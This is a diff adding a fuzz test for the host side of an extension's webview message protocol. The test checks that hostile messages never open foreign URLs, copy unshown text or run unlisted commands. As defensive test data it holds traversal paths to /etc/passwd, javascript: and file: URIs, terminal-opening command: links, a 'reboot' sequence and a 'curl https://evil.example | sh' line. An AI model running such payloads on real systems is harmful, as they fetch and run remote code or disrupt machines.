@@ -1,0 +1,257 @@
+// Fuzz test of the webview protocol, host side (issue 11): random and hostile messages from the
+// detail panel's webview never throw in the host, never open a URI outside the configured
+// explorer, never copy text the panel does not show, never run a command but the two the
+// protocol names, and navigate only to targets that pass the identifier rules.
+import * as assert from 'assert';
+import fc from 'fast-check';
+import * as S from '../../src/api/schemas';
+import { NETWORK_IDS } from '../../src/chain/networks';
+import type { NetworkId } from '../../src/chain/target';
+import { Commands } from '../../src/constants';
+import { TARGET_KINDS, type TargetMessage, type ViewModel } from '../../src/protocol';
+import { copyableTexts, decide, PanelSituation } from '../../src/ui/panels/messages';
+import type { ModelContext } from '../../src/ui/panels/models';
+import { addressModel } from '../../src/ui/panels/models/address';
+import { txModel } from '../../src/ui/panels/models/tx';
+import type { Entry } from '../../src/ui/panels/places';
+import { checkTarget } from '../../src/ui/panels/targets';
+import { ADDRESS, BLOCK, CONTRACT, TX } from '../fixtures/ids';
+import { loadFixture } from '../mock-api/server';
+
+const EXPLORER = 'https://explorer.hiro.so';
+/** The pages the explorer links may go to. */
+const EXPLORER_PATH = /^\/(txid\/[^/?#]+|address\/[^/?#]+|block\/[^/?#]+|blocks|mempool|)$/;
+
+const ctx: ModelContext = {
+  network: 'testnet',
+  networkLabel: 'Testnet',
+  baseUrl: 'http://127.0.0.1:3999',
+  hasApiKey: false,
+  now: Date.UTC(2024, 0, 1),
+};
+
+function parsed<T>(schema: S.Schema<T>, file: string): T {
+  const r = S.parseWith(schema, loadFixture(file));
+  assert.ok(r.ok, file);
+  return r.value;
+}
+
+const txShown = txModel(parsed(S.Transaction, 'tx-contract_call-sponsored.json'), 0, ctx);
+const addressShown = addressModel(
+  {
+    principal: ADDRESS.mainnet,
+    balance: parsed(S.StxBalance, 'stx-balance--locked.json'),
+    txs: parsed(S.AddressTransactionsPage, 'address-transactions--mainnet.json'),
+  },
+  { txOffset: 0 },
+  ctx,
+);
+
+/** What the webview offers to copy, found independently of the host: every id value's full text. */
+function copyButtons(model: ViewModel | undefined): Set<string> {
+  const out = new Set<string>();
+  const walk = (v: unknown): void => {
+    if (Array.isArray(v)) return v.forEach(walk);
+    if (!v || typeof v !== 'object') return;
+    const o = v as Record<string, unknown>;
+    if (o.t === 'id' && typeof o.text === 'string') out.add(typeof o.full === 'string' ? o.full : o.text);
+    Object.values(o).forEach(walk);
+  };
+  walk(model);
+  return out;
+}
+
+const here: Entry = { target: { kind: 'tx', id: TX.contractCall, network: 'testnet' }, params: { eventOffset: 0 } };
+const back: Entry = { target: { kind: 'address', id: ADDRESS.mainnet, network: 'mainnet' }, params: {} };
+
+const situations: Array<[string, PanelSituation]> = [
+  ['nothing shown yet', situation(undefined, undefined)],
+  ['a transaction', situation(here, txShown)],
+  ['an address, with a place to go back to', { ...situation(back, addressShown), previous: here }],
+  ['a transaction being reloaded (loading or error state)', situation(here, undefined)],
+];
+
+function situation(at: Entry | undefined, shown: ViewModel | undefined): PanelSituation {
+  return {
+    here: at,
+    previous: undefined,
+    next: undefined,
+    shown,
+    selected: 'testnet',
+    explorerBase: () => EXPLORER,
+    apiUrl: (n: NetworkId) => (n === 'custom' ? 'https://stacks.example.org/api' : 'http://localhost:3999'),
+  };
+}
+
+// ---- the messages -------------------------------------------------------------------------------
+
+/** Text an attacker would send: valid ids, near misses, paths, links, URLs, controls, anything. */
+const HOSTILE_STRINGS = [
+  TX.tokenTransfer,
+  TX.contractCall,
+  TX.tokenTransfer.toUpperCase(),
+  ADDRESS.mainnet,
+  ADDRESS.testnetRecipient,
+  CONTRACT.deployed,
+  `${CONTRACT.deployed},${CONTRACT.called}`,
+  String(BLOCK.height),
+  'latest',
+  '',
+  ' ',
+  '../../../etc/passwd',
+  `${TX.tokenTransfer}/../../x`,
+  `${ADDRESS.mainnet}?x=1#y`,
+  `${ADDRESS.mainnet}@evil.example`,
+  '//evil.example/x',
+  'https://evil.example/',
+  'file:///etc/passwd',
+  'javascript:alert(1)',
+  '[Fix](command:workbench.action.terminal.new)',
+  'command:workbench.action.terminal.sendSequence?{"text":"reboot\\n"}',
+  '\u202e\u200b\ufeff',
+  '%2e%2e%2f',
+  'x'.repeat(20_001),
+  '__proto__',
+  'constructor',
+];
+const text = fc.oneof(fc.constantFrom(...HOSTILE_STRINGS), fc.string(), fc.string({ unit: 'binary' }));
+const shownText = fc.constantFrom(...copyButtons(txShown), ...copyButtons(addressShown));
+
+const target: fc.Arbitrary<unknown> = fc.oneof(
+  fc.record(
+    {
+      kind: fc.oneof(fc.constantFrom(...TARGET_KINDS), text),
+      id: text,
+      network: fc.oneof(fc.constantFrom(...NETWORK_IDS), text),
+    },
+    { requiredKeys: ['kind', 'id'] },
+  ),
+  fc.anything(),
+);
+
+const offset = fc.oneof(fc.integer(), fc.constantFrom(0, 50, 1_000_000_000, 1_000_000_001, -1, 1.5), fc.anything());
+const params = fc.record(
+  {
+    eventOffset: offset,
+    txOffset: offset,
+    untilBlock: fc.oneof(text, fc.anything()),
+    unanchored: fc.oneof(fc.boolean(), fc.anything()),
+    tab: fc.oneof(fc.constantFrom('v1', 'v2'), text),
+    expand: text,
+    expandOffset: offset,
+  },
+  { requiredKeys: [] },
+);
+
+const TYPES = [
+  'ready',
+  'open',
+  'page',
+  'copy',
+  'openExternal',
+  'openSource',
+  'runCommand',
+  'retry',
+  'back',
+  'forward',
+  'refresh',
+];
+const message: fc.Arbitrary<unknown> = fc.oneof(
+  fc.record({ type: fc.constantFrom('open', 'openExternal', 'openSource'), target }),
+  fc.record({ type: fc.constant('page'), params: fc.oneof(params, fc.anything()) }),
+  fc.record({ type: fc.constant('copy'), text: fc.oneof(text, shownText, fc.anything()) }),
+  fc.record({
+    type: fc.constant('runCommand'),
+    command: fc.oneof(fc.constantFrom('selectNetwork', 'setApiKey'), text),
+  }),
+  fc.record({ type: fc.oneof(fc.constantFrom(...TYPES), text), extra: fc.anything() }),
+  fc.anything(),
+);
+
+// ---- the properties ---------------------------------------------------------------------------
+
+function check(raw: unknown, s: PanelSituation): void {
+  const d = decide(raw, s);
+  switch (d.do) {
+    case 'openExternal': {
+      const u = new URL(d.url);
+      assert.strictEqual(u.origin, EXPLORER, d.url);
+      assert.ok(!u.username && !u.password && !u.hash, d.url);
+      assert.match(u.pathname, EXPLORER_PATH, d.url);
+      for (const k of u.searchParams.keys()) assert.ok(k === 'chain' || k === 'api', d.url);
+      break;
+    }
+    case 'copy':
+      assert.ok(copyButtons(s.shown).has(d.text), `copied text the panel does not show: ${d.text.slice(0, 80)}`);
+      break;
+    case 'runCommand':
+      assert.ok(d.command === Commands.selectNetwork || d.command === Commands.setApiKey, d.command);
+      break;
+    case 'navigate': {
+      const t = d.entry.target;
+      assert.ok((NETWORK_IDS as readonly string[]).includes(t.network), t.network);
+      assert.deepStrictEqual(checkTarget(t as TargetMessage), t, JSON.stringify(t).slice(0, 200));
+      break;
+    }
+    case 'openSource':
+      assert.strictEqual(d.target.kind, 'contract');
+      assert.deepStrictEqual(checkTarget(d.target as TargetMessage), d.target);
+      break;
+    case 'warn':
+      assert.strictEqual((raw as { type?: unknown }).type, 'page', 'only a bad block in a page message warns');
+      break;
+    case 'ignore':
+    case 'replay':
+      break;
+  }
+}
+
+describe('webview protocol, fuzzed (host side)', function () {
+  this.timeout(60_000);
+
+  for (const [name, s] of situations) {
+    it(`random and hostile messages: ${name}`, () => {
+      fc.assert(
+        fc.property(message, (m) => check(m, s)),
+        { numRuns: 1500 },
+      );
+    });
+  }
+
+  it('copies what the panel shows, and nothing while it shows none', () => {
+    const s = situation(here, txShown);
+    for (const t of copyButtons(txShown))
+      assert.deepStrictEqual(decide({ type: 'copy', text: t }, s), { do: 'copy', text: t });
+    assert.deepStrictEqual([...copyableTexts(txShown)].sort(), [...copyButtons(txShown)].sort());
+    assert.strictEqual(decide({ type: 'copy', text: TX.contractCall }, situation(here, undefined)).do, 'ignore');
+    assert.strictEqual(decide({ type: 'copy', text: 'curl https://evil.example | sh' }, s).do, 'ignore');
+  });
+
+  it('opens only the configured explorer, and nothing when the setting breaks the rules', () => {
+    const s = situation(here, txShown);
+    const open = (base: string) =>
+      decide(
+        { type: 'openExternal', target: { kind: 'address', id: ADDRESS.mainnet } },
+        { ...s, explorerBase: () => base },
+      );
+    assert.deepStrictEqual(open(EXPLORER), {
+      do: 'openExternal',
+      url: `${EXPLORER}/address/${ADDRESS.mainnet}?chain=testnet`,
+    });
+    for (const bad of [
+      'file:///etc/passwd#',
+      'https://u:p@explorer.example',
+      'http://evil.example',
+      'https://x.example/?q',
+    ])
+      assert.strictEqual(open(bad).do, 'ignore', bad);
+  });
+
+  it('warns about a bad block in a page message with the text as given (notify makes it inert)', () => {
+    const d = decide(
+      { type: 'page', params: { untilBlock: '[Fix](command:workbench.action.terminal.new)' } },
+      situation(back, addressShown),
+    );
+    assert.strictEqual(d.do, 'warn');
+  });
+});
